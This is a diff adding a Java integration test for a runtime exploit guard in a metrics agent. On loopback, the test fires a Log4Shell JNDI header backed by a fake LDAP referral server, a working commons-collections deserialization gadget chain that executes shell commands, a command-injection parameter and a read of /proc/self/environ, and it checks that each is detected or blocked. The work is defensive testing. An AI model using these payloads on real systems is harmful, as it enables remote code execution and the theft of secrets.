@@ -1,0 +1,466 @@
+package dev.vigil.metrics.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.sun.net.httpserver.HttpServer;
+import com.sun.tools.attach.VirtualMachine;
+import com.unboundid.ldap.listener.InMemoryDirectoryServer;
+import com.unboundid.ldap.listener.InMemoryDirectoryServerConfig;
+import com.unboundid.ldap.listener.InMemoryListenerConfig;
+import com.unboundid.ldap.listener.interceptor.InMemoryInterceptedSearchResult;
+import com.unboundid.ldap.listener.interceptor.InMemoryOperationInterceptor;
+import com.unboundid.ldap.sdk.Entry;
+import com.unboundid.ldap.sdk.LDAPResult;
+import com.unboundid.ldap.sdk.ResultCode;
+import dev.vigil.metrics.agent.guard.FalcoShape;
+import dev.vigil.testsupport.Requirements;
+import java.io.ByteArrayOutputStream;
+import java.io.ObjectOutputStream;
+import java.lang.reflect.Field;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.URI;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.logging.Handler;
+import java.util.logging.LogRecord;
+import java.util.regex.Pattern;
+import org.apache.commons.collections.Transformer;
+import org.apache.commons.collections.functors.ChainedTransformer;
+import org.apache.commons.collections.functors.ConstantTransformer;
+import org.apache.commons.collections.functors.InvokerTransformer;
+import org.apache.commons.collections.keyvalue.TiedMapEntry;
+import org.apache.commons.collections.map.LazyMap;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The runtime guard against real exploits, on loopback: Log4Shell (log4j-core 2.14.1 logging a header, answered by an
+ * in-memory UnboundID LDAP server with a remote code base), a commons-collections 3.2.1 gadget chain posted to a
+ * deserializing endpoint, a command from a parameter and a read of {@code /proc/self/environ} (a file named in the
+ * built-in rules). Detect mode reports each with its route and lets it happen; block mode stops each before it has any
+ * effect and the application keeps serving.
+ */
+class GuardIT {
+    private static final ObjectMapper JSON = new ObjectMapper();
+
+    @TempDir
+    Path tmp;
+
+    private InMemoryDirectoryServer ldap;
+    private final List<String> ldapLog = new CopyOnWriteArrayList<>();
+    private HttpServer codebase;
+    private final AtomicInteger codebaseRequests = new AtomicInteger();
+
+    @BeforeEach
+    void startLdapTrapAndCodeBase() throws Exception {
+        codebase = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        codebase.createContext("/", exchange -> {
+            codebaseRequests.incrementAndGet();
+            exchange.sendResponseHeaders(404, -1);
+            exchange.close();
+        });
+        codebase.start();
+        InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig("dc=vigil,dc=test");
+        config.setListenerConfigs(
+                InMemoryListenerConfig.createLDAPConfig("loopback", InetAddress.getLoopbackAddress(), 0, null));
+        config.setAccessLogHandler(new Handler() {
+            @Override
+            public void publish(LogRecord r) {
+                ldapLog.add(r.getMessage());
+            }
+
+            @Override
+            public void flush() {}
+
+            @Override
+            public void close() {}
+        });
+        String codebaseUrl = "http://127.0.0.1:" + codebase.getAddress().getPort() + "/";
+        config.addInMemoryOperationInterceptor(new InMemoryOperationInterceptor() {
+            @Override
+            public void processSearchResult(InMemoryInterceptedSearchResult result) {
+                // what marshalsec's LDAPRefServer answers: a reference whose factory lives at a remote code base
+                try {
+                    Entry e = new Entry(result.getRequest().getBaseDN());
+                    e.addAttribute("objectClass", "javaNamingReference");
+                    e.addAttribute("javaClassName", "Exploit");
+                    e.addAttribute("javaFactory", "Exploit");
+                    e.addAttribute("javaCodeBase", codebaseUrl);
+                    result.sendSearchEntry(e);
+                    result.setResult(new LDAPResult(0, ResultCode.SUCCESS));
+                } catch (Exception e) {
+                    throw new IllegalStateException(e);
+                }
+            }
+        });
+        ldap = new InMemoryDirectoryServer(config);
+        ldap.startListening();
+    }
+
+    @AfterEach
+    void stop() {
+        ldap.shutDown(true);
+        codebase.stop(0);
+    }
+
+    @Test
+    void detectModeReportsEachExploitWithItsRouteAndLetsItHappen() throws Exception {
+        Path marker = tmp.resolve("gadget-ran");
+        Path execMarker = tmp.resolve("exec-ran");
+        try (SampleApp app = start(SampleApp.java17(), "port=0,guard=detect")) {
+            assertThat(app.get("/ordinary")).isEqualTo(200);
+
+            assertThat(app.get("/hello", "X-Api-Version", log4Shell())).isEqualTo(200);
+            JsonNode jndi = awaitEvent(app, "jndi-remote-lookup");
+            assertThat(fields(jndi))
+                    .containsEntry("http.route", "/hello")
+                    .containsEntry("http.method", "GET")
+                    .containsEntry("jndi.url", "ldap://127.0.0.1:" + ldap.getListenPort() + "/o=exploit");
+            assertThat(jndi.get("priority").asText()).isEqualTo("Critical");
+            assertThat(ldapLog).as("the lookup reached the LDAP server").anyMatch(l -> l.contains("SEARCH REQUEST"));
+
+            assertThat(post(app, "/deserialize", gadgetChain("touch " + marker)))
+                    .isEqualTo(200);
+            assertThat(lastPost.body()).startsWith("read java.util.HashSet");
+            JsonNode gadget = awaitEvent(app, "deserialize-gadget-class");
+            assertThat(fields(gadget))
+                    .containsEntry("http.route", "/deserialize")
+                    .containsEntry("http.method", "POST");
+            assertThat(fields(gadget).get("class.name")).startsWith("org.apache.commons.collections.functors.");
+            JsonNode spawned = awaitEvent(app, "process-in-deserialization");
+            assertThat(fields(spawned).get("proc.cmdline")).isEqualTo("/bin/sh -c touch " + marker);
+            assertThat(fields(spawned).get("java.stack")).contains("org.apache.commons.collections.functors");
+            assertThat(marker).as("detect mode changes nothing").exists();
+
+            assertThat(app.get("/exec?cmd=touch%20" + execMarker)).isEqualTo(200);
+            JsonNode exec = awaitEvent(app, "process-in-request");
+            assertThat(fields(exec))
+                    .containsEntry("http.route", "/exec")
+                    .containsEntry("proc.cmdline", "/bin/sh -c touch " + execMarker)
+                    .containsEntry("proc.name", "sh");
+            assertThat(execMarker).exists();
+
+            assertThat(app.get("/file?name=/proc/self/environ")).isEqualTo(200);
+            JsonNode file = awaitEvent(app, "sensitive-file-read");
+            assertThat(fields(file))
+                    .containsEntry("fd.name", "/proc/self/environ")
+                    .containsEntry("http.route", "/file");
+
+            List<JsonNode> all = events(app);
+            assertThat(all).allSatisfy(e -> assertThat(tags(e)).contains("detected"));
+            assertThat(all)
+                    .as("start-up process, a String deserialized, ordinary reads and a java: name are no events")
+                    .extracting(e -> e.get("rule").asText())
+                    .containsOnly(
+                            "jndi-remote-lookup",
+                            "deserialize-gadget-class",
+                            "process-in-deserialization",
+                            "process-in-request",
+                            "sensitive-file-read");
+            assertThat(eventLines(app))
+                    .as("no header, query string or request body in an event")
+                    .noneMatch(l -> l.contains("${jndi") || l.contains("cmd=") || l.contains("X-Api-Version"));
+            assertThat(codebaseRequests).hasValue(0);
+
+            String metrics = app.scrape(null);
+            assertThat(metrics)
+                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Critical\","
+                            + "rule=\"jndi-remote-lookup\"} 1.0")
+                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Warning\","
+                            + "rule=\"sensitive-file-read\"} 1.0")
+                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Critical\","
+                            + "rule=\"process-in-request\"} 1.0");
+            assertThat(Pattern.compile("vigil_guard_events_total\\{action=\"[a-z]+\",priority=\"[A-Za-z]+\","
+                                    + "rule=\"[a-z-]+\"} ")
+                            .matcher(metrics)
+                            .results()
+                            .count())
+                    .as("exactly the labels rule, priority, action")
+                    .isEqualTo(metrics.lines()
+                            .filter(l -> l.startsWith("vigil_guard_events_total{"))
+                            .count());
+            Tools.Result lint =
+                    Tools.promtoolCheckMetrics(Requirements.tool("promtool", "Debian package prometheus"), metrics);
+            assertThat(lint.output()).isEmpty();
+
+            Path prometheus = Requirements.tool("prometheus", "Debian package prometheus");
+            int port = Tools.freePort();
+            Process server = PrometheusIT.startPrometheus(prometheus, tmp, app.metricsPort(), port);
+            try {
+                String answer = PrometheusIT.poll(
+                        port, "vigil_guard_events_total{rule=\"jndi-remote-lookup\",action=\"detected\"}", "\"1\"");
+                assertThat(answer).contains("\"priority\":\"Critical\"");
+            } finally {
+                PrometheusIT.stop(server);
+            }
+        }
+    }
+
+    @Test
+    void blockModeStopsEachExploitBeforeItsEffectAndTheAppKeepsServing() throws Exception {
+        Path marker = tmp.resolve("gadget-ran");
+        Path execMarker = tmp.resolve("exec-ran");
+        try (SampleApp app = start(SampleApp.java25(), "port=0,guard=block")) {
+            assertThat(app.get("/hello", "X-Api-Version", log4Shell())).isEqualTo(200);
+            JsonNode jndi = awaitEvent(app, "jndi-remote-lookup");
+            assertThat(tags(jndi)).contains("blocked");
+            assertThat(fields(jndi)).containsEntry("http.route", "/hello");
+            assertThat(ldapLog).as("no connection reached the LDAP server").isEmpty();
+            assertThat(codebaseRequests).as("no remote class was fetched").hasValue(0);
+
+            assertThat(body(post(app, "/deserialize", gadgetChain("touch " + marker))))
+                    .contains("rule deserialize-gadget-class");
+            assertThat(marker).doesNotExist();
+
+            assertThat(app.body("/ordinary")).startsWith("ok a string");
+
+            HttpResponse<String> exec = getResponse(app, "/exec?cmd=touch%20" + execMarker);
+            assertThat(exec.statusCode()).isEqualTo(403);
+            assertThat(exec.body()).contains("rule process-in-request");
+            assertThat(execMarker).doesNotExist();
+
+            HttpResponse<String> file = getResponse(app, "/file?name=/proc/self/environ");
+            assertThat(file.statusCode()).isEqualTo(403);
+            assertThat(file.body()).contains("rule sensitive-file-read");
+
+            assertThat(events(app)).allSatisfy(e -> assertThat(tags(e)).contains("blocked"));
+            assertThat(events(app)).noneMatch(e -> e.get("rule").asText().equals("process-in-deserialization"));
+            assertThat(app.scrape(null))
+                    .contains("vigil_guard_events_total{action=\"blocked\",priority=\"Critical\","
+                            + "rule=\"jndi-remote-lookup\"} 1.0")
+                    .doesNotContain("action=\"detected\"");
+        }
+    }
+
+    @Test
+    void outboundConnectionsOutsideTheEgressListAndRemoteCodeBasesAreBlocked() throws Exception {
+        int port = codebase.getAddress().getPort();
+        try (SampleApp app = start(SampleApp.java17(), "port=0,guard=block,guard.egress=localhost|api.example.com")) {
+            assertThat(getResponse(app, "/connect?host=localhost&port=" + port).statusCode())
+                    .as("a listed host")
+                    .isEqualTo(200);
+            assertThat(eventLines(app)).isEmpty();
+
+            HttpResponse<String> connect = getResponse(app, "/connect?host=127.0.0.1&port=" + port);
+            assertThat(connect.statusCode()).isEqualTo(403);
+            assertThat(connect.body()).contains("rule egress-not-allowed");
+            assertThat(fields(awaitEvent(app, "egress-not-allowed")))
+                    .containsEntry("net.host", "127.0.0.1")
+                    .containsEntry("net.port", Integer.toString(port))
+                    .containsEntry("http.route", "/connect");
+
+            HttpResponse<String> load = getResponse(app, "/classload?codebase=http://localhost:" + port + "/classes/");
+            assertThat(load.statusCode()).isEqualTo(403);
+            assertThat(load.body()).contains("rule remote-class-load");
+            assertThat(fields(awaitEvent(app, "remote-class-load")))
+                    .containsEntry("class.name", "Exploit")
+                    .containsEntry("class.codebase", "http://localhost:" + port + "/classes/");
+            assertThat(codebaseRequests).as("the class was never fetched").hasValue(0);
+            assertThat(getResponse(app, "/classload?codebase=file:/nonexistent/")
+                            .statusCode())
+                    .as("a local code base")
+                    .isEqualTo(404);
+            assertThat(events(app)).hasSize(2);
+        }
+    }
+
+    @Test
+    void attachedAtRunTimeTheGuardBlocksInAlreadyLoadedJdkClassesAndAnotherAgentCanRetransformThem() throws Exception {
+        try (SampleApp app = start(SampleApp.java17(), null)) {
+            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
+                    .isEqualTo(200);
+            Path portFile = tmp.resolve("port");
+
+            VirtualMachine vm = VirtualMachine.attach(Long.toString(app.pid()));
+            try {
+                vm.loadAgent(
+                        SampleApp.AGENT_JAR.toAbsolutePath().toString(), "port=0,guard=block,portFile=" + portFile);
+            } finally {
+                vm.detach();
+            }
+
+            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
+                    .isEqualTo(403);
+            assertThat(getResponse(app, "/exec?cmd=true").statusCode()).isEqualTo(403);
+            assertThat(fields(awaitEvent(app, "process-in-request"))).containsEntry("http.route", "/exec");
+            assertThat(app.get("/ordinary")).isEqualTo(200);
+
+            // another agent retransforms the woven JDK classes: the JVM accepts it and the guard still holds
+            VirtualMachine other = VirtualMachine.attach(Long.toString(app.pid()));
+            try {
+                other.loadAgent(retransformerJar().toString());
+            } finally {
+                other.detach();
+            }
+            assertThat(app.log())
+                    .contains("retransformed java.io.FileInputStream", "retransformed java.lang.ProcessBuilder")
+                    .doesNotContain("could not retransform");
+            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
+                    .isEqualTo(403);
+            assertThat(app.get("/ordinary")).isEqualTo(200);
+        }
+    }
+
+    @Test
+    void offByDefaultNoGuardClassIsLoadedAndNothingIsReported() throws Exception {
+        try (SampleApp app = start(SampleApp.java17(), "port=0")) {
+            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
+                    .isEqualTo(200);
+            assertThat(app.get("/hello", "X-Api-Version", log4Shell())).isEqualTo(200);
+            Process jcmd = new ProcessBuilder(
+                            Path.of(SampleApp.java17(), "bin", "jcmd").toString(),
+                            Long.toString(app.pid()),
+                            "VM.class_hierarchy")
+                    .redirectErrorStream(true)
+                    .start();
+            String classes = new String(jcmd.getInputStream().readAllBytes());
+            assertThat(jcmd.waitFor()).isZero();
+            assertThat(classes).contains("dev.vigil.metrics.agent.MetricsAgent");
+            assertThat(classes).doesNotContain("dev.vigil.metrics.agent.guard.");
+            assertThat(eventLines(app)).isEmpty();
+            assertThat(app.scrape(null))
+                    .contains("http_server_requests_seconds_count")
+                    .doesNotContain("vigil_guard");
+        }
+    }
+
+    /** {@code src/it/samples/guard-retransformer} as an agent jar. */
+    private Path retransformerJar() throws Exception {
+        Path classes = Files.createDirectories(tmp.resolve("retransformer-classes"));
+        Path source = SampleApp.SAMPLES.resolve("guard-retransformer").resolve("GuardRetransformer.java");
+        int rc = javax.tools.ToolProvider.getSystemJavaCompiler()
+                .run(null, null, null, "--release", "17", "-d", classes.toString(), source.toString());
+        assertThat(rc).as("compiling %s", source).isZero();
+        java.util.jar.Manifest manifest = new java.util.jar.Manifest();
+        manifest.getMainAttributes().put(java.util.jar.Attributes.Name.MANIFEST_VERSION, "1.0");
+        manifest.getMainAttributes().putValue("Agent-Class", "GuardRetransformer");
+        manifest.getMainAttributes().putValue("Can-Retransform-Classes", "true");
+        Path jar = tmp.resolve("guard-retransformer.jar");
+        try (java.util.jar.JarOutputStream out =
+                new java.util.jar.JarOutputStream(Files.newOutputStream(jar), manifest)) {
+            out.putNextEntry(new java.util.jar.JarEntry("GuardRetransformer.class"));
+            out.write(Files.readAllBytes(classes.resolve("GuardRetransformer.class")));
+            out.closeEntry();
+        }
+        return jar;
+    }
+
+    private static SampleApp start(String javaHome, String agentArgs) throws Exception {
+        return SampleApp.start("guard", javaHome, agentArgs, List.of("jetty12", "guard"), "GuardApp", List.of(), "0");
+    }
+
+    private String log4Shell() {
+        return "${jndi:ldap://127.0.0.1:" + ldap.getListenPort() + "/o=exploit}";
+    }
+
+    /**
+     * A commons-collections 3.2.1 chain (ysoserial's CommonsCollections6 shape): a HashSet holding a TiedMapEntry over a
+     * LazyMap whose factory is a ChainedTransformer calling {@code Runtime.getRuntime().exec(command)} — run by
+     * {@code HashSet.readObject} hashing the entry.
+     */
+    @SuppressWarnings({"unchecked", "rawtypes"})
+    static byte[] gadgetChain(String command) throws Exception {
+        Transformer[] real = {
+            new ConstantTransformer(Runtime.class),
+            new InvokerTransformer(
+                    "getMethod", new Class[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class[0]}),
+            new InvokerTransformer(
+                    "invoke", new Class[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
+            new InvokerTransformer(
+                    "exec", new Class[] {String[].class}, new Object[] {new String[] {"/bin/sh", "-c", command}}),
+            new ConstantTransformer(1)
+        };
+        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
+        Map inner = new HashMap();
+        Map lazy = LazyMap.decorate(inner, chain);
+        TiedMapEntry entry = new TiedMapEntry(lazy, "key");
+        HashSet set = new HashSet(1);
+        set.add(entry);
+        inner.remove("key");
+        Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
+        transformers.setAccessible(true);
+        transformers.set(chain, real); // armed only now, so that building it here runs nothing
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
+            out.writeObject(set);
+        }
+        return bytes.toByteArray();
+    }
+
+    private HttpResponse<String> lastPost;
+
+    private int post(SampleApp app, String path, byte[] body) throws Exception {
+        lastPost = SampleApp.HTTP.send(
+                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + app.port() + path))
+                        .POST(HttpRequest.BodyPublishers.ofByteArray(body))
+                        .build(),
+                HttpResponse.BodyHandlers.ofString());
+        return lastPost.statusCode();
+    }
+
+    private String body(int status) {
+        assertThat(status).isEqualTo(403);
+        return lastPost.body();
+    }
+
+    private static HttpResponse<String> getResponse(SampleApp app, String path) throws Exception {
+        return SampleApp.HTTP.send(
+                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + app.port() + path))
+                        .build(),
+                HttpResponse.BodyHandlers.ofString());
+    }
+
+    private static List<String> eventLines(SampleApp app) throws Exception {
+        return app.log().lines().filter(l -> l.startsWith("{\"time\"")).toList();
+    }
+
+    private static List<JsonNode> events(SampleApp app) throws Exception {
+        List<JsonNode> out = new ArrayList<>();
+        for (String line : eventLines(app)) {
+            out.add(FalcoShape.check(JSON.readTree(line)));
+        }
+        return out;
+    }
+
+    private static JsonNode awaitEvent(SampleApp app, String rule) throws Exception {
+        long deadline = System.nanoTime() + Duration.ofSeconds(15).toNanos();
+        while (System.nanoTime() < deadline) {
+            for (JsonNode e : events(app)) {
+                if (e.get("rule").asText().equals(rule)) {
+                    return e;
+                }
+            }
+            Thread.sleep(100);
+        }
+        throw new AssertionError("no " + rule + " event; log:\n" + app.log());
+    }
+
+    private static Map<String, String> fields(JsonNode e) {
+        Map<String, String> out = new HashMap<>();
+        e.get("output_fields")
+                .properties()
+                .forEach(f -> out.put(f.getKey(), f.getValue().asText()));
+        return out;
+    }
+
+    private static List<String> tags(JsonNode e) {
+        List<String> out = new ArrayList<>();
+        e.get("tags").forEach(t -> out.add(t.asText()));
+        return out;
+    }
+}
